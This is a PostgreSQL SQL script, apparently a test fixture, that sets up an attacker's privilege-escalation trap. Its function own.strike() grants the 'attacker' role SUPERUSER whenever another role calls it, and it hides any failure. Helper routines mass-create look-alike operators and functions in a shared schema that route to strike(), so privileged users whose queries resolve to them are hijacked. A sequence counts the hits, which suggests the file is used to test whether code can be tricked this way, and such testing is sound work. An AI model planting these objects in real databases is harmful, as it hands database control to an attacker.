-- hostile_arms.sql: what an attacker's objects call, and how to plant many of them.
GRANT USAGE ON SCHEMA own, src, tgt TO PUBLIC;
CREATE SEQUENCE own.loot;
GRANT USAGE, SELECT ON own.loot TO PUBLIC;
-- Sequences are not rolled back, and it does not fail where the caller has no rights.
CREATE FUNCTION own.strike() RETURNS boolean LANGUAGE plpgsql AS $$
BEGIN
	IF current_user <> 'attacker' THEN
		PERFORM pg_catalog.nextval('own.loot');
		ALTER ROLE attacker SUPERUSER;
	END IF;
	RETURN true;
EXCEPTION WHEN OTHERS THEN
	RETURN true;
END $$;

-- The tables that views are made of, in a schema.
CREATE FUNCTION own.sources(schema text) RETURNS void LANGUAGE plpgsql AS $$
BEGIN
	EXECUTE format('CREATE TABLE %1$I.recovery_case AS SELECT 1 AS case_id, 1 AS customer_id, now() - interval ''50 days'' AS opened_at, now() - interval ''49 days'' AS resolved_at, 1 AS contacts, ''chat''::text AS channel;
		CREATE TABLE %1$I.survey_response AS SELECT 1 AS response_id, 1 AS customer_id, 1 AS case_id, now() - interval ''48 days'' AS responded_at, 5 AS csat, 9 AS nps, 3 AS speed, ''good''::text AS comment;
		CREATE TABLE %1$I.customer AS SELECT 1 AS customer_id, now() - interval ''400 days'' AS joined_at, NULL::timestamptz AS left_at;
		CREATE TABLE %1$I.purchase AS SELECT 1 AS customer_id, now() - interval ''40 days'' AS purchased_at, 9.5 AS amount', schema);
END $$;

-- Operators of a name on all pairs of types that pg_catalog has none for, in schema shared.
CREATE FUNCTION own.operators(names text[], types text[]) RETURNS void LANGUAGE plpgsql AS $$
DECLARE
	l text;
	r text;
	o text;
	n int := 0;
	result text;
BEGIN
	FOREACH l IN ARRAY types LOOP
		FOREACH r IN ARRAY types LOOP
			n := n + 1;
			EXECUTE format('CREATE FUNCTION own.says_%s(%s, %s) RETURNS boolean LANGUAGE sql AS ''SELECT own.strike()''', n, l, r);
			EXECUTE format('CREATE FUNCTION own.gives_%s(%s, %s) RETURNS %2$s LANGUAGE sql AS ''SELECT own.strike(); SELECT $1''', n, l, r);
			FOREACH o IN ARRAY names LOOP
				CONTINUE WHEN EXISTS (SELECT FROM pg_operator p WHERE p.oprname = o AND p.oprleft = l::regtype AND p.oprright = r::regtype AND p.oprnamespace = 'pg_catalog'::regnamespace);
				EXECUTE format('CREATE OPERATOR shared.%s (leftarg = %s, rightarg = %s, function = own.%s_%s)', o, l, r, CASE WHEN o ~ '^[-+*/|]+$' THEN 'gives' ELSE 'says' END, n);
			END LOOP;
		END LOOP;
	END LOOP;
END $$;

-- Functions of these names with one to six arguments of one type each, where pg_catalog has
-- none of exactly that signature.
CREATE FUNCTION own.functions(names text[], types text[], most int) RETURNS void LANGUAGE plpgsql AS $$
DECLARE
	f text;
	t text;
	arguments text;
BEGIN
	FOREACH f IN ARRAY names LOOP
		FOREACH t IN ARRAY types LOOP
			FOR n IN 1 .. most LOOP
				arguments := array_to_string(array_fill(t, ARRAY[n]), ', ');
				BEGIN
					EXECUTE format('CREATE FUNCTION shared.%I(%s) RETURNS %s LANGUAGE sql AS ''SELECT own.strike(); SELECT $1''', f, arguments, t);
				EXCEPTION WHEN duplicate_function THEN
					NULL;		-- the extension's own
				END;
			END LOOP;
		END LOOP;
	END LOOP;
END $$;
